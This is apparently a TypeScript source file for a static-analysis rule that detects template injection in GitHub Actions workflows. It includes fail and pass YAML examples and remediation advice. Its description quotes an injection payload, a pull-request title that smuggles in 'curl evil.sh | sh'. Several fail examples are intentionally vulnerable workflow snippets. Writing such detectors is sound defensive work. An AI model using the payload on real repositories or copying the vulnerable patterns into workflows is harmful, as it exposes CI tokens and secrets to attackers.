import { defineRule } from '../../src/audit/load-rules.js';
import { valueOffsetToFile } from '../../src/rules-kit/ci-script.js';
import { actionName, expressions, fileSteps } from '../../src/rules-kit/workflows.js';
import { asScalar } from '../../src/rules-kit/yaml-nodes.js';
import type { Scalar } from 'yaml';

// Contexts an outside contributor controls (the list actionlint and zizmor use).
const UNTRUSTED = [
  /github\.event\.(issue|pull_request|discussion)\.(title|body)\b/,
  /github\.event\.(comment|review|review_comment)\.body\b/,
  /github\.event\.pages\[[^\]]*\]\.page_name|github\.event\.pages\.\*\.page_name/,
  /github\.event\.(commits\[[^\]]*\]|commits\.\*|head_commit)\.(message|author\.(email|name))\b/,
  /github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b/,
  /github\.head_ref\b/,
  /github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name))|pull_requests\[[^\]]*\]\.head\.ref)\b/,
  /github\.event\.check_suite\.head_branch|github\.event\.merge_group\.head_commit\.message/,
];
const INPUTS = /\b(inputs|github\.event\.inputs)\.[\w-]+/;

export default defineRule({
  meta: {
    id: 'github-actions/template-injection',
    title: 'No attacker-controlled `${{ }}` expression expands inside a script',
    description:
      '`${{ }}` is substituted into the script text before the shell runs it: a pull-request title like `"; curl evil.sh | sh; #` becomes code, running with the job\'s token and secrets. Values from issues, comments, pull requests, commits and branch names are controlled by whoever opens them.',
    remediation:
      'Pass the value through an environment variable and quote it: `env: {TITLE: ${{ github.event.pull_request.title }}}` then `echo "$TITLE"` (in `actions/github-script`, read `context.payload` instead of interpolating).',
    checklistItem: 'security.access-control',
    severity: 'high',
    artifacts: ['github-workflow', 'github-action'],
    equivalents: ['zizmor:template-injection', 'checkov:CKV_GHA_2', 'poutine:injection'],
    defaultOptions: { inputs: false },
    optionsDoc: { inputs: 'Also report `${{ inputs.* }}` in scripts (people who can dispatch a workflow already have write access, so off by default).' },
    examples: {
      fail: [
        {
          path: '.github/workflows/after-ci.yml',
          code: 'on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\njobs:\n  notify:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: |\n          set -eu\n          ./notify.sh "${{ github.event.workflow_run.head_branch }}"\n',
          note: 'a branch name is chosen by whoever pushes it',
        },
        {
          path: '.github/workflows/triage.yml',
          code: 'on: issues\njobs:\n  label:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: |\n          echo "New issue: ${{ github.event.issue.title }}"\n',
        },
        {
          path: '.github/workflows/pr.yml',
          code: 'on: pull_request\njobs:\n  check:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd # v8.0.0\n        with:\n          script: console.log("${{ github.head_ref }}")\n',
        },
        { path: '.github/actions/greet/action.yml', code: 'name: greet\nruns:\n  using: composite\n  steps:\n    - run: echo "${{ github.event.comment.body }}"\n      shell: bash\n' },
      ],
      pass: [
        {
          path: '.github/workflows/ci.yml',
          code: 'on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    strategy:\n      matrix:\n        node: [20, 22]\n    steps:\n      - run: |\n          echo "node ${{ matrix.node }}"\n          npm test\n',
          note: 'matrix values come from the workflow file itself',
        },
        {
          path: '.github/workflows/triage.yml',
          code: 'on: issues\njobs:\n  label:\n    runs-on: ubuntu-24.04\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "New issue: $TITLE"\n',
        },
        { path: '.github/workflows/ci.yml', code: 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: docker build -t app:${{ github.sha }} .\n' },
      ],
    },
  },
  check(ctx) {
    const parsed = fileSteps(ctx.artifact);
    if (!parsed) return;
    const withInputs = ctx.options.inputs === true;
    for (const { step } of parsed.steps) {
      const targets: Array<{ node: Scalar; text: string; where: string }> = [];
      if (step.runNode && step.run !== undefined) targets.push({ node: step.runNode, text: step.run, where: '`run:`' });
      if (actionName(step.uses) === 'actions/github-script' && step.withNode) {
        const n = asScalar(parsed.doc, step.withNode.get('script', true));
        if (n) targets.push({ node: n, text: String(n.value ?? ''), where: '`actions/github-script` script' });
      }
      for (const t of targets) {
        for (const e of expressions(t.text)) {
          const bad = UNTRUSTED.find((re) => re.test(e.inner)) ?? (withInputs ? (INPUTS.test(e.inner) ? INPUTS : undefined) : undefined);
          if (!bad) continue;
          const start = valueOffsetToFile(t.node, ctx.artifact.text, e.offset);
          const exact = start !== t.node.range?.[0] || e.offset === 0;
          ctx.report({
            at: exact ? { offset: start, length: e.length } : t.node,
            message: `\`\${{ ${e.inner} }}\` is attacker-controlled and is pasted into the ${t.where}: pass it through \`env:\` and use the quoted variable instead`,
          });
        }
      }
    }
  },
});
